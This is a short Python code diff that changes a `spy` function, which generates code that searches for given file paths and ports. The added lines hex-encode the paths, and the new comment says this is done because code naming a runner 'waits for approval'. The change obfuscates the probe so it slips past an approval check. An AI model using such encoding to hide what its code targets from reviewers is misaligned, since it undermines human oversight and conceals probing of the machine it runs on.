@@ -61,7 +61,9 @@ def withdraw(balance, amount):
 
 def spy(paths: list[Path], ports: list[int]) -> str:
     """Code that looks for these; none of its words is a secret, or it would not be pushed."""
-    where = f"PATHS = {json.dumps([str(path) for path in paths])}\nPORTS = {ports}\n\n\n"
+    # As digits: a path may hold a runner's name, and code that speaks of one waits for approval.
+    digits = json.dumps([str(path).encode().hex() for path in paths])
+    where = f"PATHS = [bytes.fromhex(path).decode() for path in {digits}]\nPORTS = {ports}\n\n\n"
     head, _, body = SPY.partition("\n\n\n")
     return f"{head}\n\n{where}{body}"
 
